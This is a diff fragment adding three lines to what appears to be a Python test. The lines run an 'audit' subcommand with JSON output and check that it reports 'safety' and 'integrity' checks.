+    status, out, _ = vram("audit", planners["en"], "--json", "--no-house")
+    assert status == 0
+    assert {check["kind"] for check in json.loads(out)["checks"]} == {"safety", "integrity"}
